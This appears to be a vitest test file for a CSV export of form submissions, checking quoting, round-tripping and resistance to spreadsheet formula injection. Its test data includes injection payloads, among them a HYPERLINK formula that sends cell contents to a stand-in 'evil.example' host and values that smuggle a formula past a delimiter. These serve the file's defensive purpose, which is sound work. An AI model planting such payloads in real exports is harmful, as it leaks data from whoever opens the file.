import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sampleSubmission } from '../../worker/features/forms/testing/sample-submission.ts'
import { csvLine, submissionsCsv } from './csv.ts'

const read = (lines: readonly string[], options = {}): string[][] =>
  parse(lines.map(line => `${line}\n`).join(''), { bom: true, ...options })

describe('a line of CSV', () => {
  it.each([
    ['a', 'a'],
    ['a,b', '"a,b"'],
    ['say "x"', '"say ""x"""'],
    ['two\nlines', '"two\nlines"'],
    ['', ''],
  ])('%j is written as RFC 4180 has it: %j', (value, written) => {
    expect(csvLine([value, 'b'])).toBe(`${written},b\r`)
  })

  it('gives every value back that no spreadsheet would compute', () => {
    const calm = fc.array(
      fc.string({ unit: 'binary' }).map(text => text.replaceAll(/[=+\-@＝＋－＠]/g, '')),
      {
        minLength: 1,
      },
    )
    fc.assert(
      fc.property(calm, values => {
        expect(read([csvLine(['first', ...values])])).toEqual([['first', ...values]])
      }),
    )
  })

  it.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+49 30 1234',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '  =1',
    '\r=1',
    '＝1',
    // A spreadsheet set to German, French or Italian reads a new cell after each of these.
    'x;=1',
    'x;"=1',
    'x\t@SUM(A1)',
    'x\n=1',
  ])('%j is computed in no cell, whatever ends a cell', value => {
    for (const delimiter of [',', ';', '\t']) {
      const options = { delimiter, relax_quotes: true, relax_column_count: true }
      const cells = read([csvLine(['a', value, 'b'])], options).flat()
      expect(cells.filter(cell => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
    }
  })
})

it('has a row a submission, a column a field of any of them, and the names of files', () => {
  const file = { field: 'proof', key: 'k', filename: 'proof.pdf', type: 'application/pdf', bytes: 3 }
  const field = { kind: 'text', label: 'Town', personal: true } as const
  const lines = submissionsCsv([
    sampleSubmission('a', { values: { town: 'Köln' }, fields: [{ ...field, name: 'town' }], files: [] }),
    sampleSubmission('b', {
      values: { degree: ['ba', 'ma'], town: 'Bonn' },
      fields: [
        { ...field, name: 'town' },
        { ...field, name: 'degree', kind: 'buttons', chosen: ['Bachelor', 'Master'] },
        { ...field, name: 'proof', kind: 'file' },
      ],
      files: [file],
    }),
  ])
  // With the mark of UTF-8, without which Excel reads umlauts wrongly.
  expect(lines[0]).toMatch(/^\uFEFFsent \(UTC\),reference,form,/)
  const [columns, ...rows] = read(lines)
  const named = rows.map(row => Object.fromEntries(row.map((cell, at) => [columns?.[at], cell])))
  expect(named).toMatchObject([
    { id: 'a', town: 'Köln', degree: '', proof: '' },
    { id: 'b', town: 'Bonn', degree: 'Bachelor, Master', proof: 'proof.pdf' },
  ])
})
